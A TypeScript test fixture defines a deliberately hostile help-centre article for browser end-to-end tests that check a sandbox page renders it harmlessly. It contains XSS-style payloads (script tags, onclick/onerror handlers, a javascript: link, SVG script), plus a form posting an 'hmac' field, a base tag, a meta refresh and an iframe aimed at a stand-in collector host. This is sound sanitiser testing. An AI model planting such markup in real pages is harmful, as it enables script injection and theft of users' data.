/**
 * An article as a careless or hostile help-desk agent could write it: a script, an event
 * handler, a `javascript:` link, a form, a `base` and a `meta` refresh, a frame. The
 * browser tests' build publishes it on the sandbox help desk before building
 * (scripts/serve-e2e.ts), and tests/e2e/help/help-centre.spec.ts checks that its page is harmless.
 */
/** The troubleshooting section (sandbox/help/tree.ts). */
export const HOSTILE_ARTICLE_SECTION = 4402000032;
export const HOSTILE_ARTICLE_TITLE = 'Connection checklist (agent draft)';

export const HOSTILE_ARTICLE_BODY = [
  '<p id="intro" style="color:red" onclick="window.__hostile = \'onclick\'">Check these first.</p>',
  '<script>window.__hostile = "script";</script>',
  '<img src="/nowhere.png" onerror="window.__hostile = \'onerror\'">',
  '<p><a href="javascript:window.__hostile=\'link\'">Run the fix</a></p>',
  '<p><a href="https://example.com/guide" target="_blank">An outside guide</a></p>',
  '<form action="https://collector.example/steal" method="post"><input name="hmac"><button>Send</button></form>',
  '<base href="https://collector.example/">',
  '<meta http-equiv="refresh" content="0;url=https://collector.example/">',
  '<iframe src="https://collector.example/frame"></iframe>',
  '<svg><script>window.__hostile = "svg"</script></svg>',
  '<p>Still stuck? <a href="/hc/en-us/articles/4403000601-connection">Read the troubleshooting guide</a>.</p>',
].join('\n');
